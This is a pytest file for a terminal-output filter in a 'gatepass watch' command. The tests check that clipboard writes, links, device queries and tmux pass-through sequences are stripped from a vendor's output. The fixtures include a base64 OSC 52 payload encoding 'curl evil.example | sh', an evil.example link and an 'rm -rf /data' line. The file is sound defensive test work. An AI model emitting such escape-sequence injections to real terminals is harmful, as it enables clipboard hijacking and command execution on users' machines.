"""`gatepass watch` writes the vendor's output to the observer's own terminal: the terminal string sequences in it
(clipboard writes, links, device queries, tmux pass-through) are dropped, the screen's text and colours pass."""

from __future__ import annotations

import io
from typing import Any

import pytest

from cli.client_watch import StringSequenceFilter, _show

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07"  # OSC 52: "curl evil.example | sh" to paste later


@pytest.mark.parametrize(("hostile", "visible"), [
    (CLIPBOARD, ""),
    ("\x1b]52;c;Y3VybA==\x1b\\", ""),  # ended by ST instead of BEL
    ("\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\", "click"),  # a link: its word stays, plain
    ("\x1bP$qm\x1b\\", ""),  # DECRQSS: the terminal would type its answer into the observer's shell
    ("\x9d52;c;eA==\x9c", ""),  # the 8-bit forms
    ("\x1b_apc\x1b\\\x1b^pm\x1b\\\x1bXsos\x1b\\", ""),
])
def test_string_sequences_are_dropped_and_the_screen_passes(hostile: str, visible: str) -> None:
    shown = StringSequenceFilter().feed("\x1b[31mred\x1b[0m " + hostile + "after\r\n")
    assert shown == "\x1b[31mred\x1b[0m " + visible + "after\r\n"


def test_a_clipboard_write_passed_through_tmux_is_dropped() -> None:
    # tmux doubles each ESC inside its DCS: the inner OSC 52 is what a terminal outside tmux would act on.
    shown = StringSequenceFilter().feed("ok \x1bPtmux;\x1b\x1b]52;c;eA==\x07\x1b\\after")
    assert "52;" not in shown
    assert "tmux" not in shown
    assert shown.replace("\x1b", "").replace("\\", "") == "ok after"  # what is left is a stray ESC and ST


def test_a_sequence_split_across_frames_is_still_dropped() -> None:
    screen = StringSequenceFilter()
    shown = "".join(screen.feed(part) for part in ["ok \x1b", "]52;c;", "Y3Vy", "bA==\x1b", "\\done \x1b", "[1mbold"])
    assert shown == "ok done \x1b[1mbold"


def test_an_unterminated_sequence_ends_at_the_next_escape_so_output_is_not_hidden_from_the_observer() -> None:
    screen = StringSequenceFilter()
    assert screen.feed("\x1b]0;never ended") == ""
    assert screen.feed("\x1b[2Jrm -rf /data\r\n") == "\x1b[2Jrm -rf /data\r\n"
    assert screen.feed("\x1b]0;x\x18visible") == "visible"  # CAN aborts it, as in the terminal


class _Context:
    def __init__(self) -> None:
        self.out = io.StringIO()

    def note(self, text: str) -> None:
        pass


def test_the_watch_command_writes_the_filtered_output() -> None:
    ctx: Any = _Context()
    screen = StringSequenceFilter()
    _show(ctx, "frames", [[0.1, "o", "$ cat notes\r\n"], [0.2, "o", CLIPBOARD + "nothing to see\r\n"]], screen)
    assert ctx.out.getvalue() == "$ cat notes\r\nnothing to see\r\n"


def test_notices_tunnel_lines_and_the_end_reason_are_printed_as_plain_lines() -> None:
    ctx: Any = _Context()
    _show(ctx, "frames", [[0.1, "m", "target connection lost: \x1b]52;c;eA==\x07bye\r\nmore"],
                          [0.2, "cc", "1 2 target connection lost: \x1b[2Jreset"]], StringSequenceFilter())
    assert ctx.out.getvalue() == ("\r\n[target connection lost: \\x1b]52;c;eA==\\x07bye\\r\\nmore]\r\n"
                                  "bytes: 1 to the asset, 2 from it (closed: target connection lost: \\x1b[2Jreset)\n")
